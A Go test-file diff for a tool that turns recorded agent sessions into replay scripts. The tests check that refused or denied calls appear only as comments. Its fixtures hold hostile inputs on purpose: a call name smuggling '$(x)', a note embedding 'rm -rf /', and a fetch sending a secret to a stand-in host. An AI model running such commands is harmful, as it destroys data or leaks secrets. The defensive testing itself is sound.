@@ -55,7 +55,7 @@ func hostileCalls(t *testing.T) *Calls {
 		}
 		c.Calls = append(c.Calls, Call{Index: i + 1, Name: "fs_write", Input: in, Expect: e})
 	}
-	c.Calls = append(c.Calls, Call{Index: len(c.Calls) + 1, Name: "it's\n$(x)", Input: json.RawMessage(`{"a":"b"}`), Expect: Skip, Note: "not redone: it never ran (denied by the user\nrm -rf /)"})
+	c.Calls = append(c.Calls, Call{Index: len(c.Calls) + 1, Name: "it's\n$(x)", Input: json.RawMessage(`{"a":"b"}`), Expect: Skip, Note: "denied in the recording\nrm -rf /"})
 	return c
 }
 
@@ -123,7 +123,7 @@ func TestScriptParses(t *testing.T) {
 		"\n# source:    transcript\n",
 		"\n# effects:   modifies the workspace (fs_write)\n",
 		"\n# calls:     16 redone of 17 recorded (1 never ran or cannot be recovered: not redone)\n",
-		"\n# call 17: it's $(x): not redone: it never ran (denied by the user rm -rf /)\n",
+		"\n# call 17: it's $(x): not redone: denied in the recording rm -rf /\n",
 	} {
 		if !strings.Contains(s, want) {
 			t.Errorf("script lacks %q:\n%s", want, s)
@@ -273,5 +273,46 @@ func TestComment(t *testing.T) {
 		if got := Comment(in); got != want {
 			t.Errorf("Comment(%q) = %q, want %q", in, got, want)
 		}
+	}
+}
+
+// TestScriptOfRefusedCalls: in the script of a session whose interlock
+// refused an exfiltration and whose gate denied a write, both calls are
+// comments, never commands, and no gap: the script is a transcript's, and
+// run, it redoes only the calls that ran.
+func TestScriptOfRefusedCalls(t *testing.T) {
+	t.Parallel()
+	c, err := Extract(armedFile(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	script := writeScript(t, c)
+	b, _ := os.ReadFile(script)
+	s := string(b)
+	for _, want := range []string{
+		"\n# source:    transcript\n",
+		"\n# calls:     3 redone of 5 recorded (2 never ran or cannot be recovered: not redone)\n",
+		"\n# call 3: web_fetch: not redone: refused by the interlock in the recording\n# recorded: " + refusal + "\n# input: {\"url\":\"http://x/?d=S3CR3T\"}\n",
+		"\n# call 4: fs_write: not redone: denied in the recording\n# recorded: denied by the user\n",
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("script lacks %q:\n%s", want, s)
+		}
+	}
+	for _, bad := range []string{"GAP", "LOSSY", "\ncall 3 ", "\ncall 4 "} {
+		if strings.Contains(s, bad) {
+			t.Errorf("script holds %q:\n%s", bad, s)
+		}
+	}
+	out, stderr, err := runScript(t, script, "")
+	if err != nil {
+		t.Fatalf("script: %v\n%s", err, stderr)
+	}
+	// Three invocations, the last the read after the refused calls.
+	if in, err := os.ReadFile(filepath.Join(out, "3.in")); err != nil || string(in) != "{\"path\":\"notes\"}\n" {
+		t.Errorf("invocation 3: %q %v", in, err)
+	}
+	if _, err := os.Stat(filepath.Join(out, "4.in")); err == nil {
+		t.Error("a fourth invocation: a refused call was redone")
 	}
 }
